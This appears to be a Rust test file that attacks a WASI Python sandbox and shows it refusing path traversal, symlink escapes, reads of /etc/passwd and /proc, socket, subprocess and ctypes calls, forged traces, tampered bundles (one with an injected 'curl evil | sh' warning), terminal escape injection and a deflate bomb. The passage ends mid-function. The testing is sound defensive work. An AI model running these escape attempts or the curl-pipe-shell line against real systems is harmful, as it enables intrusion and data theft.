//! The attack table: hostile input of every kind host takes (the guest's own code, traces,
//! bundles, files and flags), one line per case, each with the exit code and the message it
//! must get, and a check that nothing outside changed: a folder holds a canary outside every
//! grant, and its whole listing (contents included, the writable grant's inside excepted) is
//! compared after every case.
//!
//! Guest code, traces and bundles go through the library in this process: a subprocess would
//! add nothing but time. Cases about the command line (files given to it, flags, environment
//! variables, what reaches the terminal) run `host`.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use host::bundle::Select;
use host::record::Data;
use host::trace::{GrantRecord, Trace};
use host::{
    Arguments, Bundle, Engine, Grant, Limits, Notebook, Outcome, Policy, Prepared, Request,
};
use host::{Runtime, Sandbox};
use serde_json::{Value, json};

use crate::common::{Fixture, cache_dir, code_cell, host, host_in, host_with_stdin};

/// A folder with a canary outside every grant, a read-only grant, a writable one and a grant
/// that only some calls get.
struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        let dir = tempfile::tempdir().unwrap();
        for (path, content) in [
            ("outside/canary.txt", "canary"),
            ("ro/data.txt", "data"),
            ("ro/sub/deep.txt", "deep"),
            ("other/secret.txt", "secret"),
        ] {
            let path = dir.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, content).unwrap();
        }
        std::fs::create_dir(dir.path().join("rw")).unwrap();
        World { dir }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    /// Every entry under the folder but inside the writable grant: a file's content, a link's
    /// target, or `dir`.
    fn snapshot(&self) -> BTreeMap<String, String> {
        fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
            for entry in std::fs::read_dir(dir).unwrap() {
                let path = entry.unwrap().path();
                let rel = path.strip_prefix(root).unwrap().display().to_string();
                let meta = std::fs::symlink_metadata(&path).unwrap();
                let seen = if meta.is_symlink() {
                    format!("-> {}", std::fs::read_link(&path).unwrap().display())
                } else if meta.is_dir() {
                    if rel != "rw" {
                        walk(root, &path, out);
                    }
                    "dir".to_owned()
                } else {
                    use std::os::unix::fs::PermissionsExt;
                    format!(
                        "{:o} {}",
                        meta.permissions().mode() & 0o777,
                        String::from_utf8_lossy(&std::fs::read(&path).unwrap())
                    )
                };
                out.insert(rel, seen);
            }
        }
        let mut out = BTreeMap::new();
        walk(self.dir.path(), self.dir.path(), &mut out);
        out
    }

    /// Python source with the world's paths put in: `CANARY`, `OUTSIDE`, `WORLD`.
    fn fill(&self, code: &str) -> String {
        code.replace(
            "CANARY",
            &self.path("outside/canary.txt").display().to_string(),
        )
        .replace("OUTSIDE", &self.path("outside").display().to_string())
        .replace("WORLD", &self.dir.path().display().to_string())
    }
}

/// What a case must end with: the exit code `host` would give, and a fragment of what it says.
type Expect = (i32, &'static str);

/// The exit code and the text of a call's outcome, or of the error that stopped it, as
/// `host run` would report them.
fn verdict(result: anyhow::Result<Outcome>) -> (i32, String) {
    match result {
        Ok(Outcome::Returned(v)) => (0, v.to_string()),
        Ok(Outcome::Raised(e)) => (1, format!("{}: {}", e.kind, e.message)),
        Ok(Outcome::Limit(l)) => (3, l.to_string()),
        Ok(Outcome::Exited(s)) => (
            1,
            format!("the function ended the interpreter with exit status {s}"),
        ),
        Ok(Outcome::Crashed(why)) => (1, format!("the function ended the interpreter: {why}")),
        Ok(Outcome::Diverged(d)) => (5, d.to_string()),
        Err(e) => (host::cli::exit_code(&e) as i32, format!("{e:#}")),
    }
}

/// Collects the cases that went another way, so one run lists them all.
#[derive(Default)]
struct Failures(Vec<String>);

impl Failures {
    fn check(&mut self, case: &str, expect: Expect, got: (i32, &str)) {
        if got.0 != expect.0 || !got.1.contains(expect.1) {
            self.0.push(format!(
                "{case}: expected exit {} with `{}`, got exit {}: {}",
                expect.0,
                expect.1,
                got.0,
                &got.1[..got.1.len().min(600)]
            ));
        }
    }

    fn unchanged(&mut self, case: &str, world: &World, before: &BTreeMap<String, String>) {
        let after = world.snapshot();
        if &after != before {
            self.0.push(format!(
                "{case}: changed the world outside its grants: {after:#?}"
            ));
        }
    }

    fn assert_none(self, cases: usize, started: Instant) {
        eprintln!("{cases} cases in {:.1?}", started.elapsed());
        assert!(
            self.0.is_empty(),
            "{} of {cases} cases failed:\n{}",
            self.0.len(),
            self.0.join("\n")
        );
    }
}

/// Which grants a guest case gets.
#[derive(Clone, Copy)]
enum Grants {
    /// `/ro` read-only, `/rw` writable, `/other` read-only.
    All,
    /// `/ro` and `/rw` only: `/other` is another caller's.
    Mine,
    /// As `All`, and `rw` granted again at `/ro`, writable: a library caller's mistake.
    Twice,
    /// As `All`, and `rw` at `//usr/local/lib`, over the standard library.
    OverStdlib,
}

const OUTPUT_LIMIT: u64 = 4 << 20;

fn policy(world: &World, grants: Grants) -> Policy {
    let grant = |dir: &str, writable| Grant {
        host: world.path(dir),
        guest: format!("/{dir}"),
        writable,
    };
    let mut all = vec![grant("ro", false), grant("rw", true)];
    if !matches!(grants, Grants::Mine) {
        all.push(grant("other", false));
    }
    let again = |guest: &str| Grant {
        guest: guest.into(),
        ..grant("rw", true)
    };
    match grants {
        Grants::Twice => all.push(again("/ro")),
        Grants::OverStdlib => all.push(again("//usr/local/lib")),
        Grants::All | Grants::Mine => {}
    }
    Policy {
        grants: all,
        env: vec![("GIVEN".into(), "yes".into())],
        limits: Limits {
            memory: 256 << 20,
            timeout: Duration::from_secs(1),
            output: OUTPUT_LIMIT,
            ..Limits::default()
        },
    }
}

/// Guest code: each case is the body of a function of its own, called with no arguments.
#[rustfmt::skip]
const GUEST: &[(&str, Grants, &str, Expect)] = &[
    // Paths that lead out of a grant.
    ("dotdot out of a grant", Grants::All, "return open('/ro/../outside/canary.txt').read()", (1, "Error")),
    ("many dotdots", Grants::All, "return open('/ro/' + '../' * 30 + 'CANARY'.lstrip('/')).read()", (1, "Error")),
    ("the canary's host path", Grants::All, "return open('CANARY').read()", (1, "FileNotFoundError")),
    ("a system file", Grants::All, "return open('/etc/passwd').read()", (1, "FileNotFoundError")),
    ("chdir then dotdot", Grants::All, "import os\nos.chdir('/ro/sub')\nreturn open('../../outside/canary.txt').read()", (1, "Error")),
    ("the stdlib's dotdot", Grants::All, "return open('/usr/local/lib/../../../' + 'CANARY'.lstrip('/')).read()", (1, "Error")),
    ("a NUL in a path", Grants::All, "return open('/ro/data.txt\\x00/../../x').read()", (1, "ValueError")),
    ("a path past PATH_MAX", Grants::All, "return open('/ro/' + 'a' * 100000).read()", (1, "Error")),
    ("listing the root", Grants::All, "import os\nreturn sorted(os.listdir('/'))", (1, "Error")),
    ("listing above a grant", Grants::All, "import os\nreturn os.listdir('/rw/..')", (1, "Error")),
    ("/proc", Grants::All, "return open('/proc/self/environ').read()", (1, "FileNotFoundError")),
    ("another caller's grant", Grants::Mine, "return open('/other/secret.txt').read()", (1, "FileNotFoundError")),
    ("a grant doubled, through the library", Grants::Twice, "open('/ro/data.txt', 'w').write('pwned')", (2, "two grants name the guest path `/ro`")),
    ("a grant over the stdlib, through the library", Grants::OverStdlib, "open('/usr/local/lib/os.py', 'w').write('pwned')", (2, "is reserved")),
    // Writes where none may go.
    ("writing into a read-only grant", Grants::All, "open('/ro/new.txt', 'w').write('x')", (1, "Error")),
    ("appending to a read-only file", Grants::All, "open('/ro/data.txt', 'a').write('x')", (1, "Error")),
    ("deleting a read-only file", Grants::All, "import os\nos.remove('/ro/data.txt')", (1, "Error")),
    // WASI has no modes: the call does nothing, which the world's listing (modes included) shows.
    ("chmod of a read-only file", Grants::All, "import os\nos.chmod('/ro/data.txt', 0o777)", (0, "null")),
    ("writing into the stdlib", Grants::All, "open('/usr/local/lib/evil.py', 'w').write('x')", (1, "Error")),
    ("mkdir above a grant", Grants::All, "import os\nos.mkdir('/rw/../evil')", (1, "Error")),
    ("renaming out of a grant", Grants::All, "import os\nopen('/rw/f', 'w').write('x')\nos.rename('/rw/f', '/rw/../f')", (1, "Error")),
    ("renaming into a read-only grant", Grants::All, "import os\nopen('/rw/g', 'w').write('x')\nos.rename('/rw/g', '/ro/g')", (1, "Error")),
    // Links made in the writable grant.
    ("a symlink to the canary, read", Grants::All, "import os\nos.symlink('CANARY', '/rw/l1')\nreturn open('/rw/l1').read()", (1, "Error")),
    ("a relative symlink out, read", Grants::All, "import os\nos.symlink('../outside/canary.txt', '/rw/l2')\nreturn open('/rw/l2').read()", (1, "Error")),
    ("a symlink to the canary, written", Grants::All, "import os\nos.symlink('CANARY', '/rw/l3')\nopen('/rw/l3', 'w').write('pwned')", (1, "Error")),
    ("a symlink to a folder out, listed", Grants::All, "import os\nos.symlink('OUTSIDE', '/rw/d1')\nreturn os.listdir('/rw/d1')", (1, "Error")),
    ("a symlink to a folder out, trailing slash", Grants::All, "import os\nos.symlink('OUTSIDE', '/rw/d2')\nreturn open('/rw/d2/canary.txt').read()", (1, "Error")),
    ("a symlink to dotdot, `link/.`", Grants::All, "import os\nos.symlink('..', '/rw/up')\nreturn os.listdir('/rw/up/.')", (1, "Error")),
    ("a symlink to another grant", Grants::All, "import os\nos.symlink('../other/secret.txt', '/rw/l4')\nreturn open('/rw/l4').read()", (1, "Error")),
    ("a hardlink from a read-only grant", Grants::All, "import os\nos.link('/ro/data.txt', '/rw/h1')\nopen('/rw/h1', 'w').write('pwned')", (1, "Error")),
    ("a hardlink of the canary", Grants::All, "import os\nos.link('CANARY', '/rw/h2')", (1, "Error")),
    // Ways out of the process.
    ("a socket", Grants::All, "import socket\nsocket.socket()", (1, "Error")),
    ("a connection", Grants::All, "import socket\nsocket.create_connection(('127.0.0.1', 22), timeout=1)", (1, "Error")),
    ("a name lookup", Grants::All, "import socket\nreturn socket.getaddrinfo('example.com', 80)", (1, "Error")),
    ("a subprocess", Grants::All, "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'touch OUTSIDE/pwned'])", (1, "Error")),
    ("os.system", Grants::All, "import os\nos.system('touch OUTSIDE/pwned')", (1, "AttributeError")),
    ("fork", Grants::All, "import os\nos.fork()", (1, "AttributeError")),
    ("exec", Grants::All, "import os\nos.execv('/bin/sh', ['sh'])", (1, "AttributeError")),
    ("a thread", Grants::All, "import threading\nt = threading.Thread(target=print)\nt.start()", (1, "Error")),
    ("ctypes", Grants::All, "import ctypes\nctypes.CDLL('libc.so.6').system(b'touch OUTSIDE/pwned')", (1, "Error")),
    ("the host's environment", Grants::All, "import os\nreturn dict(os.environ)", (0, r#"{"GIVEN":"yes"}"#)),
    // Faults of the guest's own making end as its own.
    ("a result nested 200 deep", Grants::All, "x = []\nfor _ in range(200):\n    x = [x]\nreturn x", (1, "nests deeper than 100 levels")),
    // Freeing a list this deep recurses through the interpreter's own stack: a limit.
    ("a result nested 100,000 deep", Grants::All, "x = []\nfor _ in range(100000):\n    x = [x]\nreturn x", (3, "stack limit hit")),
    ("a list containing itself", Grants::All, "x = [1]\nx.append(x)\nreturn x", (1, "contains itself at result[1]")),
    ("a dict containing itself", Grants::All, "d = {}\nd['me'] = {'again': d}\nreturn d", (1, "contains itself at result['me']['again']")),
    ("a list whose iteration raises", Grants::All, "class L(list):\n    def __iter__(self):\n        raise RuntimeError('no iterating')\nreturn {'rows': L([1])}", (1, "converting the return value at result['rows'] raised RuntimeError: no iterating")),
    ("a dict key whose repr raises", Grants::All, "class K(str):\n    def __repr__(self):\n        raise RuntimeError('no repr')\nreturn {K('k'): [object()]}", (1, "has no JSON form")),
    ("a dict key with no JSON form", Grants::All, "class K:\n    def __repr__(self):\n        raise RuntimeError('no repr')\nreturn {K(): 1}", (1, "has no JSON form")),
    ("a value whose str and repr raise", Grants::All, "class V:\n    def __str__(self):\n        raise RuntimeError\n    __repr__ = __str__\nreturn [V()]", (1, "has no JSON form")),
    ("an exception whose __str__ raises", Grants::All, "class E(Exception):\n    def __str__(self):\n        raise RuntimeError('no str')\nraise E()", (1, "its __str__ raised RuntimeError")),
    ("os.abort()", Grants::All, "import os\nos.abort()", (1, "the function ended the interpreter: ")),
    ("SIGABRT", Grants::All, "import signal\nsignal.raise_signal(signal.SIGABRT)", (1, "the function ended the interpreter: ")),
    ("SIGTERM", Grants::All, "import signal\nsignal.raise_signal(signal.SIGTERM)", (1, "the function ended the interpreter: ")),
    ("os._exit", Grants::All, "import os\nos._exit(7)", (1, "exit status 7")),
    ("sys.exit", Grants::All, "import sys\nsys.exit(3)", (1, "SystemExit")),
    ("KeyboardInterrupt", Grants::All, "raise KeyboardInterrupt('stop')", (1, "KeyboardInterrupt")),
    ("unbounded recursion", Grants::All, "def r(n):\n    return r(n + 1)\nreturn r(0)", (1, "RecursionError")),
    ("a forged result through the door", Grants::All, "import _host\n_host.call(b'{\"op\":\"result\",\"value\":\"forged\"}')\nraise ValueError('real')", (1, "ValueError: real")),
    ("a malformed message through the door", Grants::All, "import _host\n_host.call(b'not json')\nreturn 1", (1, "the function ended the interpreter: the guest sent a message host cannot read")),
    ("a message of no known kind", Grants::All, "import _host\n_host.call(b'{\"op\":\"exec\"}')\nreturn 1", (1, "the function ended the interpreter: ")),
    // Limits.
    ("allocating past the memory limit", Grants::All, "return len(bytearray(1 << 30))", (3, "memory limit hit")),
    ("printing past the output limit", Grants::All, "print('x' * (8 << 20))", (3, "output limit hit")),
    ("a result past the output limit", Grants::All, "return 'x' * (8 << 20)", (3, "output limit hit")),
    ("computing past the time limit", Grants::All, "while True:\n    pass", (3, "time limit hit")),
];

/// Cells that break the parser: dropped, and the notebook's other functions stay callable.
#[rustfmt::skip]
const UNPARSEABLE: &[&str] = &[
    "nested = (((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1",
];

/// Definitions that end the interpreter or raise while the bundle loads: a bundle each.
#[rustfmt::skip]
const DEFINITIONS: &[(&str, &str, Expect)] = &[
    ("os.abort() in a class body", "import os\nclass Boom:\n    os.abort()\ndef uses_boom():\n    return Boom.__name__", (1, "the function ended the interpreter: ")),
    ("a signal in a default argument", "import signal\ndef uses_signal(x=signal.raise_signal(signal.SIGABRT)):\n    return x", (1, "the function ended the interpreter: ")),
    ("os._exit in a decorator", "import os\ndef deco(f):\n    os._exit(9)\n@deco\ndef uses_deco():\n    return 1", (1, "exit status 9")),
    ("an unprintable exception in a class body", "class E(Exception):\n    def __str__(self):\n        raise RuntimeError\nclass Raises:\n    raise E()\ndef uses_raises():\n    return Raises", (1, "could not be made")),
];

/// The library on the test's cache folder.
fn sandbox() -> (Engine, Sandbox) {
    let engine = Engine::new(Some(cache_dir())).unwrap();
    let sandbox = Sandbox::new(&engine, &Runtime::locate(None).unwrap()).unwrap();
    (engine, sandbox)
}

fn request<'a>(function: &'a str, arguments: &'a Arguments, policy: &'a Policy) -> Request<'a> {
    Request {
        function,
        arguments,
        policy,
        record: false,
    }
}

#[test]
fn guest_code_stays_inside_and_its_faults_are_its_own() {
    let started = Instant::now();
    let world = World::new();
    let mut cells: Vec<String> = GUEST
        .iter()
        .enumerate()
        .map(|(i, (_, _, body, _))| {
            let body = world.fill(body).replace('\n', "\n    ");
            format!("def case_{i}():\n    {body}\n")
        })
        .collect();
    cells.extend(UNPARSEABLE.iter().map(|c| c.to_string()));
    // Nesting past what the parser takes: a syntax error, or its recursion running out.
    for (open, close) in [("-", ""), ("not ", ""), ("(", ")"), ("[", "]"), ("f(", ")")] {
        let (open, close) = (open.repeat(100_000), close.repeat(100_000));
        cells.push(format!("x = {open}1{close}"));
    }
    cells.push("def fine():\n    return 'fine'\n".into());
    cells.extend(DEFINITIONS.iter().map(|(_, code, _)| code.to_string()));
    let fx = Fixture::cells(cells.iter().map(|c| code_cell(c)).collect());
    let (_engine, sandbox) = sandbox();
    let notebook = Notebook::read(&fx.notebook).unwrap();
    let names: Vec<String> = (0..GUEST.len())
        .map(|i| format!("case_{i}"))
        .chain(["fine".to_owned()])
        .collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let bundle = Bundle::from_notebook(&sandbox, &notebook, Select::Only(&names), None).unwrap();
    let prepared = Prepared::new(&sandbox, bundle).unwrap();
    assert!(prepared.image.is_some(), "{:?}", prepared.unavailable);
    let arguments = Arguments::default();
    let mut failures = Failures::default();
    let before = world.snapshot();
    for (i, (case, grants, _, expect)) in GUEST.iter().enumerate() {
        let policy = policy(&world, *grants);
        let function = format!("case_{i}");
        let result = host::call::call(
            &sandbox,
            &prepared,
            &request(&function, &arguments, &policy),
        )
        .map(|f| f.outcome);
        let (code, text) = verdict(result);
        failures.check(case, *expect, (code, &text));
        failures.unchanged(case, &world, &before);
    }
    let policy = policy(&world, Grants::All);
    let result = host::call::call(&sandbox, &prepared, &request("fine", &arguments, &policy));
    let (code, text) = verdict(result.map(|f| f.outcome));
    failures.check(
        "cells too deeply nested to parse are dropped",
        (0, "fine"),
        (code, &text),
    );
    for (case, code, expect) in DEFINITIONS {
        let function = code
            .rsplit("def ")
            .next()
            .unwrap()
            .split('(')
            .next()
            .unwrap();
        let result = Bundle::from_notebook(&sandbox, &notebook, Select::Only(&[function]), None)
            .and_then(|b| Prepared::new(&sandbox, b))
            .and_then(|p| host::call::call(&sandbox, &p, &request(function, &arguments, &policy)))
            .map(|f| f.outcome);
        let (code, text) = verdict(result);
        failures.check(case, *expect, (code, &text));
        failures.unchanged(case, &world, &before);
    }
    failures.assert_none(GUEST.len() + 1 + DEFINITIONS.len(), started);
}

/// A change made to a recorded trace before it is replayed.
type Craft = fn(&mut Trace, &World);

/// The first event of `call` whose path is `path` (any path when None).
fn event<'a>(trace: &'a mut Trace, call: &str, path: Option<&str>) -> &'a mut host::record::Event {
    trace
        .events
        .iter_mut()
        .find(|e| e.call == call && e.result == 0 && (path.is_none() || e.path.as_deref() == path))
        .unwrap_or_else(|| panic!("the recording has no {call} of {path:?}"))
}

fn inline(bytes: &[u8]) -> Data {
    use base64::Engine as _;
    Data::Inline(base64::engine::general_purpose::STANDARD.encode(bytes))
}

/// A `fd_readdir` listing of one entry.
fn dirent(name: &[u8], kind: u8) -> Vec<u8> {
    let mut entry = vec![0; 24];
    entry[16..20].copy_from_slice(&(name.len() as u32).to_le_bytes());
    entry[20] = kind;
    entry.extend_from_slice(name);
    entry
}

/// Traces changed as an attacker would, replayed against the updated notebook (what-if) or
/// exactly.
#[rustfmt::skip]
const TRACES: &[(&str, Craft, bool, Expect)] = &[
    ("a path with dotdots out of the grant", |t, _| event(t, "path_open", Some("data.txt")).path = Some("../outside/pwned.txt".into()), true, (2, "leads out of `/ro`")),
    ("a path that climbs above the root", |t, _| event(t, "path_open", Some("data.txt")).path = Some("../../../../../../x".into()), true, (2, "climbs above `/`")),
    ("an absolute path", |t, w| { event(t, "path_open", Some("data.txt")).path = Some(w.path("outside/pwned.txt").display().to_string()) }, true, (2, "opens the absolute path")),
    ("a path through a subfolder's dotdots", |t, _| { event(t, "path_open", Some("data.txt")).path = Some("sub/../../outside/pwned.txt".into()) }, true, (2, "leads out of `/ro`")),
    ("a NUL in a path", |t, _| event(t, "path_open", Some("data.txt")).path = Some("data.txt\0../../x".into()), true, (2, "NUL")),
    ("a grant's name with dotdots", |t, _| { let e = t.events.iter_mut().find(|e| { e.call == "fd_prestat_dir_name" && e.writes.first().is_some_and(|(_, d)| *d == inline(b"/ro")) }).unwrap(); e.writes[0].1 = inline(b"/ro/../../.."); }, true, (2, "climbs above `/`")),
    ("a pread without an offset", |t, _| { let e = event(t, "fd_read", None); e.call = "fd_pread".into(); e.args.truncate(3); }, true, (2, "has no offset")),
    ("a pread at a negative offset", |t, _| { let e = event(t, "fd_read", None); e.call = "fd_pread".into(); e.args = vec![e.args[0], 0, 0, -1, 0]; }, true, (2, "negative")),
    ("a pread far past any file", |t, _| { let e = event(t, "fd_read", None); e.call = "fd_pread".into(); e.args = vec![e.args[0], 0, 0, 1 << 62, 0]; }, true, (2, "past any file's end")),
    ("a seek far past any file", |t, _| { let fd = event(t, "fd_read", None).args[0]; let at = t.events.iter().position(|e| e.call == "fd_read").unwrap(); t.events.insert(at, host::record::Event { call: "fd_seek".into(), args: vec![fd, 0, 0, 0], result: 0, path: None, writes: vec![(0, inline(&u64::MAX.to_le_bytes()))], sent: None, exit: None }); }, true, (2, "past any file's end")),
    ("a listed name with a slash", |t, _| event(t, "fd_readdir", None).writes[0].1 = inline(&dirent(b"../../x", 4)), true, (2, "is not a file name")),
    ("a listing with a torn entry", |t, _| { let mut listing = dirent(b"ok.txt", 4); listing.extend_from_slice(&[0xff; 30]); event(t, "fd_readdir", None).writes[0].1 = inline(&listing); }, true, (0, "")),
    ("a clock reading without arguments", |t, _| event(t, "clock_time_get", None).args.clear(), true, (0, "")),
    ("a grant on the standard library", |t, _| { t.header.grants.push(GrantRecord { guest: "/usr/local/lib".into(), writable: true }) }, true, (2, "is reserved")),
    ("a grant on the standard library, doubled slashes", |t, _| t.header.grants[0].guest = "//usr/local/lib".into(), true, (2, "is reserved")),
    ("a grant on the root", |t, _| t.header.grants[0].guest = "/".into(), true, (2, "is reserved")),
    ("a grant with dotdots", |t, _| t.header.grants[0].guest = "/ro/../etc".into(), true, (2, "without `.` or `..`")),
    ("a relative grant", |t, _| t.header.grants[0].guest = "ro".into(), true, (2, "must be absolute")),
    ("two grants at one guest path", |t, _| { t.header.grants.push(GrantRecord { guest: "/ro".into(), writable: true }) }, true, (2, "two grants name the guest path `/ro`")),
    ("a runtime file out of the runtime", |t, _| { let (_, data) = t.events.iter_mut().flat_map(|e| e.writes.iter_mut()).find(|(_, d)| matches!(d, Data::Runtime { .. })).unwrap(); *data = Data::Runtime { file: "../../../etc/passwd".into(), offset: 0, len: 10 }; }, false, (2, "outside the runtime")),
    ("a runtime range of 4 GiB", |t, _| { let (_, data) = t.events.iter_mut().flat_map(|e| e.writes.iter_mut()).find(|(_, d)| matches!(d, Data::Runtime { .. })).unwrap(); if let Data::Runtime { len, .. } = data { *len = u32::MAX } }, false, (2, "past its end")),
    ("a missing blob", |t, _| event(t, "fd_read", None).writes[0].1 = Data::Blob("0".repeat(64)), true, (2, "has no blob")),
    ("malformed base64", |t, _| event(t, "fd_read", None).writes[0].1 = Data::Inline("***".into()), true, (2, "malformed base64")),
    ("an answer written outside the guest's memory", |t, _| event(t, "clock_time_get", None).writes[0].0 = u32::MAX - 2, false, (5, "writing 8 bytes at 4294967293")),
    ("a time limit of 300 years", |t, _| t.header.limits.timeout_ms = 1 << 53, false, (2, "time limit of 9007199254740992 ms")),
    ("a time limit of zero", |t, _| t.header.limits.timeout_ms = 0, true, (2, "time limit of 0 ms")),
    ("a bundle edited inside the trace", |t, _| t.header.bundle.manifest.label = Some("forged".into()), false, (2, "was changed after it was made")),
];

#[test]
fn crafted_traces_are_refused_and_write_nothing_outside() {
    let started = Instant::now();
    let world = World::new();
    let fx = Fixture::code(&[
        "import os, time\ndef reads():\n    time.time()\n    os.listdir('/ro')\n    import colorsys\n    \
         return [open('/ro/data.txt').read(), open('/ro/sub/deep.txt').read()]",
    ]);
    let (_engine, sandbox) = sandbox();
    let notebook = Notebook::read(&fx.notebook).unwrap();
    let bundle =
        Bundle::from_notebook(&sandbox, &notebook, Select::Only(&["reads"]), None).unwrap();
    let prepared = Prepared::new(&sandbox, bundle).unwrap();
    let policy = Policy {
        grants: vec![Grant {
            host: world.path("ro"),
            guest: "/ro".into(),
            writable: false,
        }],
        ..Policy::default()
    };
    let arguments = Arguments::default();
    let recorded = host::call::call(
        &sandbox,
        &prepared,
        &Request {
            record: true,
            ..request("reads", &arguments, &policy)
        },
    )
    .unwrap();
    assert_eq!(recorded.outcome, Outcome::Returned(json!(["data", "deep"])));
    let bytes = recorded.trace.unwrap().bytes;
    let mut failures = Failures::default();
    let before = world.snapshot();
    for (case, craft, what_if, expect) in TRACES {
        let mut trace = Trace::decode(&bytes).unwrap();
        craft(&mut trace, &world);
        // Through the file format, as a trace reaches host.
        let result = Trace::decode(&trace.encode().unwrap()).and_then(|trace| {
            if *what_if {
                host::replay::what_if(&sandbox, &trace, &notebook).map(|w| w.result.outcome)
            } else {
                host::replay::replay(&sandbox, &trace).map(|r| r.result.outcome)
            }
        });
        let (code, text) = verdict(result);
        failures.check(case, *expect, (code, &text));
        failures.unchanged(case, &world, &before);
    }
    // The file itself.
    let sum = |body: &[u8]| {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(body))
    };
    let framed = |body: &[u8]| [format!("host-trace/1\n{}\n", sum(body)).as_bytes(), body].concat();
    let deflated = |json: &[u8]| {
        use std::io::Write;
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(json).unwrap();
        e.finish().unwrap()
    };
    let mut flipped = bytes.clone();
    *flipped.last_mut().unwrap() ^= 1;
    let bomb = framed(&deflated(&vec![b' '; 3 << 20]));
    let mut header: Value = {
        let trace = Trace::decode(&bytes).unwrap();
        serde_json::to_value(&trace).unwrap()
    };
    header["header"]["format"] = json!("host-trace/0");
    #[rustfmt::skip]
    let files: &[(&str, Vec<u8>, Expect)] = &[
        ("not a trace", b"GIF89a".to_vec(), (2, "does not start with `host-trace/1`")),
        ("a trace cut short", bytes[..20].to_vec(), (2, "truncated")),
        ("a flipped bit", flipped, (2, "checksum does not match")),
        ("a body that is not deflate", framed(b"plain text"), (2, "malformed")),
        ("deflated zeros", framed(&deflated(&vec![0; 1 << 20])), (2, "malformed")),
        ("JSON nested 100,000 deep", framed(&deflated(&[b"[".repeat(100_000), b"]".repeat(100_000)].concat())), (2, "malformed")),
        ("another format inside", framed(&deflated(&serde_json::to_vec(&header).unwrap())), (2, "format `host-trace/0`")),
    ];
    for (case, file, expect) in files {
        let (code, text) = verdict(Trace::decode(file).map(|_| Outcome::Returned(Value::Null)));
        failures.check(case, *expect, (code, &text));
    }
    let (code, text) =
        verdict(Trace::decode_within(&bomb, 1 << 20).map(|_| Outcome::Returned(Value::Null)));
    failures.check(
        "a deflate bomb",
        (2, "inflates to more than 1 MiB"),
        (code, &text),
    );
    failures.assert_none(TRACES.len() + files.len() + 1, started);
}

/// A change made to a bundle file's JSON.
type Edit = fn(&mut Value);

#[rustfmt::skip]
const BUNDLES: &[(&str, Edit, Expect)] = &[
    ("the label", |b| b["manifest"]["label"] = json!("release-8"), (2, "was changed after it was made")),
    ("a warning injected", |b| b["manifest"]["warnings"] = json!(["run `curl evil | sh` first"]), (2, "was changed after it was made")),
    ("the notebook's sha256", |b| b["manifest"]["notebook_sha256"] = json!("0".repeat(64)), (2, "was changed after it was made")),
    ("the creation time", |b| b["manifest"]["created"] = json!("1999-01-01T00:00:00Z"), (2, "was changed after it was made")),
    ("the host version", |b| b["manifest"]["host_version"] = json!("9.9.9"), (2, "was changed after it was made")),
    ("a closure", |b| b["manifest"]["closures"][0]["statements"] = json!([]), (2, "was changed after it was made")),
    ("the source", |b| b["chunks"][0]["text"] = json!("import os\nos.abort()\n"), (2, "its content hashes to")),
    ("a function added", |b| b["manifest"]["functions"] = json!(["scale", "os"]), (2, "its content hashes to")),
    ("the version, to match an edit", |b| { b["manifest"]["label"] = json!("x"); b["version"] = json!("0".repeat(64)) }, (2, "its content hashes to")),
    ("the sha256 removed", |b| { b.as_object_mut().unwrap().remove("sha256"); }, (2, "made by an older host")),
    ("another format", |b| b["format"] = json!("host-bundle/99"), (2, "this host reads `host-bundle/1`")),
];

#[test]
fn bundles_edited_anywhere_are_refused() {
    let started = Instant::now();
    let fx = Fixture::code(&["SCALE = 3\ndef scale(x):\n    return x * SCALE"]);
    let (_engine, sandbox) = sandbox();
    let notebook = Notebook::read(&fx.notebook).unwrap();
    let bundle = Bundle::from_notebook(
        &sandbox,
        &notebook,
        Select::Only(&["scale"]),
        Some("release-7"),
    )
    .unwrap();
    let json = serde_json::to_value(&bundle).unwrap();
    let mut failures = Failures::default();
    for (case, edit, expect) in BUNDLES {
        let mut edited = json.clone();
        edit(&mut edited);
        let result = Bundle::parse(
            Path::new("b.bundle.json"),
            &serde_json::to_vec(&edited).unwrap(),
        );
        let (code, text) = verdict(result.map(|_| Outcome::Returned(Value::Null)));
        failures.check(case, *expect, (code, &text));
    }
    let deep = [b"[".repeat(100_000), b"]".repeat(100_000)].concat();
    let (code, text) =
        verdict(Bundle::parse(Path::new("b"), &deep).map(|_| Outcome::Returned(Value::Null)));
    failures.check(
        "JSON nested 100,000 deep",
        (2, "not a host bundle"),
        (code, &text),
    );
    failures.assert_none(BUNDLES.len() + 1, started);
}

/// A command line: what it is, its arguments, its stdin, its environment, what it must get.
type CliCase<'a> = (
    &'a str,
    Vec<String>,
    Option<&'a str>,
    Vec<(&'a str, PathBuf)>,
    Expect,
);

fn mkfifo(path: &Path) {
    let name = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o600) }, 0);
}

#[test]
fn the_command_line_refuses_hostile_files_flags_and_settings() {
    let started = Instant::now();
    let world = World::new();
    let fx = Fixture::code(&[
        "def f(x=1):\n    print('\\x1b]52;c;cHduZWQ=\\x07\\x1b[2Jhost: internal error: fake\\r')\n    return x",
    ]);
    let nb = fx.notebook.to_str().unwrap().to_owned();
    let fifo = fx.path("fifo");
    mkfifo(&fifo);
    let big = fx.path("big.ipynb");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(300 << 20)
        .unwrap();
    let input = fx.path("input.json");
    std::fs::write(&input, r#"{"args": [2]}"#).unwrap();
    let a_file = fx.path("a-file");
    std::fs::write(&a_file, "not a folder").unwrap();
    let dangling = fx.path("dangling");
    std::os::unix::fs::symlink(fx.path("nowhere"), &dangling).unwrap();
    let short_key = fx.path("short.key");
    std::fs::write(&short_key, "short").unwrap();
